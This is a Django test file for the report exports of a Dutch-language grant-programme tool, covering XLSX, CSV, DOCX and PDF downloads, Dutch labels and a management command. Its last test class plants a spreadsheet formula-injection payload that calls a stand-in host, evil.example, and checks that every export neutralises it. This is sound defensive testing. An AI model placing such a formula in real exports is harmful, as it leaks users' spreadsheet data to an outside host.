import csv
import datetime
import io
import tempfile
from pathlib import Path

import docx
import openpyxl
from django.core.management import CommandError, call_command
from django.test import TestCase
from django.urls import reverse
from django.utils import timezone, translation
from pypdf import PdfReader

from profploeg.lib.spreadsheets import MACHINE
from profploeg.programmes.models import Programme
from profploeg.reports import exports
from profploeg.reports.status import status_report
from profploeg.reports.tables import ROUND_COLUMNS
from profploeg.reports.tests.csvs import csv_rows
from profploeg.test import PASSWORD, BaseTestCase

AS_OF = datetime.date(2022, 1, 31)


def pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def municipality_rows(table) -> list:
    """A DOCX table's rows but the header and the totals."""
    return [row for row in table.rows[1:] if row.cells[0].text != "Totaal"]


def docx_text(content: bytes) -> str:
    document = docx.Document(io.BytesIO(content))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([p.text for p in document.paragraphs] + cells)


class DemoDownloadTests(TestCase):
    """Each download of the demo's report of 31 January 2022 opens and says what happened."""

    @classmethod
    def setUpTestData(cls):
        call_command("demo", stdout=io.StringIO())
        cls.programme = Programme.objects.get(title__startswith="Profploeg: begeleiding")

    def setUp(self):
        self.report = status_report(programme=self.programme, as_of=AS_OF)

    def test_xlsx_has_a_summary_the_programme_and_a_sheet_per_round_with_real_cells(self):
        workbook = openpyxl.load_workbook(io.BytesIO(exports.render(self.report, "xlsx")))
        summary, programme, round1, round2 = workbook.worksheets
        self.assertEqual(summary.freeze_panes, "A2")
        self.assertEqual(
            summary.auto_filter.ref, f"A1:{summary.cell(1, summary.max_column).column_letter}3"
        )
        self.assertEqual([summary.cell(row, 4).value for row in (2, 3)], [35, 50])
        self.assertEqual(summary.cell(2, 3).value, datetime.datetime(2021, 8, 13))
        self.assertEqual(summary.cell(2, 3).number_format, "DD/MM/YYYY")
        self.assertEqual(round1.max_row, 1 + 35)
        self.assertEqual(round2.max_row, 1 + 50)
        self.assertEqual(round1.freeze_panes, "A2")
        self.assertTrue(round1.auto_filter.ref.startswith("A1:"))
        received = [row[5] for row in round1.iter_rows(min_row=2, values_only=True)]
        self.assertTrue(all(isinstance(day, datetime.datetime) for day in received))
        values = [row[1] for row in programme.iter_rows(min_row=2, values_only=True)]
        self.assertIn(83, values)
        self.assertIn(122, values)

    def test_rounds_csv_has_one_row_per_round(self):
        rows = list(
            csv.DictReader(
                io.StringIO(exports.render(self.report, "csv", table="rounds", dialect=MACHINE))
            )
        )
        self.assertEqual(
            [(r["number"], r["submitted"], r["ever_admissible"], r["accepted"]) for r in rows],
            [("1", "35", "34", "33"), ("2", "50", "50", "50")],
        )

    def test_docx_answers_each_question_of_the_seed_with_the_figures(self):
        content = exports.render(self.report, "docx")
        document = docx.Document(io.BytesIO(content))
        text = docx_text(content)
        self.assertIn("voor de 33 gemeenten in de eerste ronde", text)
        self.assertIn("35 aanvragen ingediend voor de indieningsdatum van 13 augustus 2021", text)
        self.assertIn("Eén aanvraag was onontvankelijk", text)
        self.assertIn("Alle 50 aanvragen werden ontvankelijk verklaard", text)
        self.assertIn("Op welke manier worden de begeleidingen geëvalueerd?", text)
        self.assertIn("Overzicht van de gemeenten uit de tweede ronde", text)
        self.assertIn("122 deelnemers", text)
        headings = [p.text for p in document.paragraphs if p.style.name.startswith("Heading")]
        self.assertEqual(headings[:2], ["Vraag 1", "Antwoord op vraag 1"])
        self.assertIn("Vraag 3", headings)
        # Each round's table in its answer, under the sentence that announces it; round 2 in
        # full in the annex too.
        self.assertEqual([len(municipality_rows(t)) for t in document.tables], [35, 50, 50])
        self.assertIn("Na 13 augustus werden nog twee aanvragen voor begeleiding ingediend", text)
        self.assertEqual(
            text.count("De tabel hieronder geeft per gemeente de status van het traject"), 2
        )
        self.assertGreaterEqual(len(document.inline_shapes), 2)

    def test_the_answer_is_dutch_whatever_the_language_of_the_screen(self):
        from django.contrib.auth import get_user_model

        staff = get_user_model().objects.filter(role="staff").first()
        self.client.force_login(staff)
        self.client.cookies["django_language"] = "en"
        response = self.client.get(
            f"/reports/programmes/{self.programme.pk}/status/",
            {"as_of": AS_OF.isoformat(), "format": "docx"},
        )
        text = docx_text(response.content)
        # The screen is English...
        page = self.client.get(f"/reports/programmes/{self.programme.pk}/status/")
        self.assertContains(page, "Status report")
        # ...the answer for Parliament is not.
        self.assertIn("Antwoord op vraag 1", text)
        self.assertIn("€ 1.500.000,00", text)
        self.assertIn("aanvaard", text.lower())
        self.assertNotIn("Accepted", text)

    def test_pdf_is_the_same_answer(self):
        content = exports.render(self.report, "pdf")
        self.assertTrue(content.startswith(b"%PDF"))
        text = pdf_text(content)
        self.assertIn("Vraag 1", text)
        self.assertIn("Vraag 3", text)
        self.assertIn("13 augustus 2021", text)
        self.assertIn("Overzicht van de gemeenten uit de tweede ronde", text)

    def test_the_annex_of_a_round_lists_its_municipalities_only(self):
        report = status_report(programme=self.programme, as_of=AS_OF, round_number=2)
        workbook = openpyxl.load_workbook(io.BytesIO(exports.render(report, "xlsx", annex=True)))
        self.assertEqual(len(workbook.worksheets), 1)
        self.assertEqual(workbook.worksheets[0].max_row, 1 + 50)
        text = pdf_text(exports.render(report, "pdf", annex=True))
        self.assertIn("Overzicht van de gemeenten uit de tweede ronde", text)
        document = docx.Document(io.BytesIO(exports.render(report, "docx", annex=True)))
        self.assertEqual(len(municipality_rows(document.tables[0])), 50)


class CommandTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        call_command("demo", stdout=io.StringIO())

    def test_binary_formats_need_an_output_file(self):
        with self.assertRaisesMessage(CommandError, "--output"):
            call_command("report", "status", "--as-of", "2022-01-31", "--format", "pdf")

    def test_each_format_is_written_to_the_output_file(self):
        with tempfile.TemporaryDirectory() as folder:
            for format, magic in [
                ("xlsx", b"PK"),
                ("docx", b"PK"),
                ("pdf", b"%PDF"),
                ("csv", "\ufeffRonde;NIS-code;Gemeente".encode()),
                ("json", b"{"),
            ]:
                with self.subTest(format=format):
                    path = Path(folder) / f"report.{format}"
                    call_command(
                        "report", "status", "--as-of", "2022-01-31", "--format", format,
                        "--output", str(path),
                    )  # fmt: skip
                    self.assertTrue(path.read_bytes().startswith(magic))

    def test_annex_of_round_2_as_csv_on_stdout(self):
        out = io.StringIO()
        call_command(
            "report", "status", "--as-of", "2022-01-31", "--round", "2", "--annex",
            "--format", "csv", stdout=out,
        )  # fmt: skip
        rows = csv_rows(out.getvalue())
        self.assertEqual(len(rows), 50)
        self.assertEqual({row["Ronde"] for row in rows}, {"2"})

    def test_machine_dialect_on_the_command_line(self):
        out = io.StringIO()
        call_command(
            "report", "status", "--as-of", "2022-01-31", "--format", "csv", "--table", "rounds",
            "--dialect", "machine", stdout=out,
        )  # fmt: skip
        self.assertTrue(out.getvalue().startswith("number,opens_on,deadline,submitted"))
        rows = list(csv.DictReader(io.StringIO(out.getvalue())))
        self.assertEqual(rows[0]["deadline"], "2021-08-13")


class DownloadPageTests(BaseTestCase):
    def setUp(self):
        self.url = reverse("reports:status", args=[self.programme.pk])
        self.submit(self.lier, day=datetime.date(2021, 8, 1))
        self.submit(self.brugge, day=datetime.date(2021, 9, 1))
        self.client.login(username="sam", password=PASSWORD)

    def test_csv_download_is_for_excel_in_belgium_by_default(self):
        response = self.client.get(self.url, {"as_of": "2021-12-31", "format": "csv"})
        content = response.content
        self.assertTrue(content.startswith(b"\xef\xbb\xbf"))
        rows = csv_rows(content.decode())
        lier = next(row for row in rows if row["Gemeente"] == "Lier")
        self.assertEqual(lier["Status"], "Ingediend")
        self.assertEqual(lier["Ontvangen"], "01/08/2021")
        self.assertEqual(lier["Ronde"], "1")

    def test_csv_download_in_the_machine_dialect_on_request(self):
        response = self.client.get(
            self.url, {"as_of": "2021-12-31", "format": "csv", "dialect": "machine"}
        )
        text = response.content.decode()
        self.assertTrue(text.startswith("round,refnis,name"))
        lier = next(row for row in csv.DictReader(io.StringIO(text)) if row["name"] == "Lier")
        self.assertEqual((lier["status"], lier["received"]), ("submitted", "2021-08-01"))

    def test_every_header_is_its_columns_label_in_dutch_whatever_the_screens_language(self):
        self.client.cookies["django_language"] = "en"
        query = {"as_of": "2021-12-31"}
        municipalities = self.client.get(self.url, {**query, "format": "csv"}).content.decode()
        rounds = self.client.get(self.url, {**query, "format": "csv", "table": "rounds"})
        workbook = openpyxl.load_workbook(
            io.BytesIO(self.client.get(self.url, {**query, "format": "xlsx"}).content)
        )
        with translation.override("nl-be"):
            dutch = {
                "municipalities": [str(c.label) for c in exports.MUNICIPALITY_CSV_COLUMNS],
                "rounds": [str(c.label) for c in ROUND_COLUMNS],
            }
        self.assertEqual(municipalities.removeprefix("\ufeff").split("\r\n")[0].split(";"),
                         dutch["municipalities"])  # fmt: skip
        self.assertEqual(
            rounds.content.decode().removeprefix("\ufeff").split("\r\n")[0].split(";"),
            dutch["rounds"],
        )
        self.assertEqual(dutch["municipalities"][:3], ["Ronde", "NIS-code", "Gemeente"])
        # The workbook follows the screen's language, with the same labels.
        with translation.override("en"):
            english = [str(c.label) for c in ROUND_COLUMNS]
        self.assertEqual([cell.value for cell in workbook.worksheets[0][1]], english)
        machine = self.client.get(self.url, {**query, "format": "csv", "dialect": "machine"})
        self.assertEqual(
            machine.content.decode().split("\r\n")[0].split(","),
            [c.key for c in exports.MUNICIPALITY_CSV_COLUMNS],
        )

    def test_an_unknown_csv_dialect_is_a_bad_request(self):
        response = self.client.get(
            self.url, {"as_of": "2021-12-31", "format": "csv", "dialect": "tsv"}
        )
        self.assertEqual(response.status_code, 400)
        self.assertIn(b"excel or machine", response.content)

    def test_page_offers_every_download_and_the_annex_of_each_round(self):
        response = self.client.get(self.url, {"as_of": "2021-12-31"})
        # CSV and JSON are links; DOCX, PDF and XLSX start a background download (`downloads`).
        for link in ("format=csv&amp;table=rounds", "format=csv", "format=json"):
            self.assertContains(response, link)
        self.assertContains(response, 'name="format" value="docx"', count=3)
        self.assertContains(response, 'name="format" value="pdf"', count=3)
        self.assertContains(response, 'name="format" value="xlsx"', count=3)
        for number in (1, 2):
            self.assertContains(
                response, f'<input type="hidden" name="round" value="{number}">', html=True
            )

    def test_each_download_has_its_type_and_a_file_name(self):
        for format in exports.FORMATS:
            with self.subTest(format=format):
                response = self.client.get(self.url, {"as_of": "2021-12-31", "format": format})
                self.assertEqual(response["Content-Type"], exports.CONTENT_TYPES[format])
                self.assertIn(
                    f'filename="statusrapport-{self.programme.pk}-2021-12-31.{format}"',
                    response["Content-Disposition"],
                )

    def test_annex_link_downloads_the_overview_of_that_round(self):
        response = self.client.get(
            self.url, {"as_of": "2021-12-31", "annex": "2", "format": "xlsx"}
        )
        self.assertIn("bijlage-gemeenten-ronde-2", response["Content-Disposition"])
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
        self.assertEqual(
            [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)], ["Brugge"]
        )


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


class FormulaTextTests(BaseTestCase):
    """Issue 12: text that users type (a decision's reason here) reaches every spreadsheet and
    CSV download as text, never as a formula a spreadsheet program would run."""

    def setUp(self):
        application = self.submit(self.lier, day=datetime.date(2021, 8, 1))
        self.decide(application, "inadmissible", reason=HOSTILE)
        self.client.force_login(self.staff)

    def hostile_cells(self, response) -> list:
        """Every value of the download that carries the hostile text, as the program reads it."""
        if "spreadsheetml" in response["Content-Type"]:
            book = openpyxl.load_workbook(io.BytesIO(response.content))
            return [
                (cell.value, cell.data_type)
                for sheet in book.worksheets
                for row in sheet.iter_rows()
                for cell in row
                if isinstance(cell.value, str) and "evil.example" in cell.value
            ]
        text = response.content.decode("utf-8-sig")
        delimiter = ";" if ";" in text.splitlines()[0] else ","
        return [
            (value, "csv")
            for row in csv.reader(io.StringIO(text), delimiter=delimiter)
            for value in row
            if "evil.example" in value
        ]

    def test_a_reason_that_looks_like_a_formula_is_text_in_every_download(self):
        status = reverse("reports:status", args=[self.programme.pk])
        downloads = {
            "status csv": (status, {"format": "csv"}),
            "status csv for programs": (status, {"format": "csv", "dialect": "machine"}),
            "status xlsx": (status, {"format": "xlsx"}),
            "annex xlsx": (status, {"annex": "1", "format": "xlsx"}),
            "annex csv": (status, {"annex": "1", "format": "csv"}),
            "api csv": (
                f"/api/programmes/{self.programme.pk}/status",
                {"format": "csv", "dialect": "machine"},
            ),
            "history workbook": (reverse("history:export", args=[self.programme.pk]), {}),
        }
        for name, (url, params) in downloads.items():
            with self.subTest(download=name):
                # The decision is taken today.
                as_of = timezone.localdate().isoformat()
                response = self.client.get(url, {"as_of": as_of, **params})
                self.assertEqual(response.status_code, 200)
                cells = self.hostile_cells(response)
                self.assertTrue(cells)
                for value, kind in cells:
                    # A text cell of a workbook is never run; a CSV has no types: a quote.
                    if kind == "csv":
                        self.assertTrue(value.startswith("'="), value)
                    else:
                        self.assertEqual((value, kind), (HOSTILE, "s"))
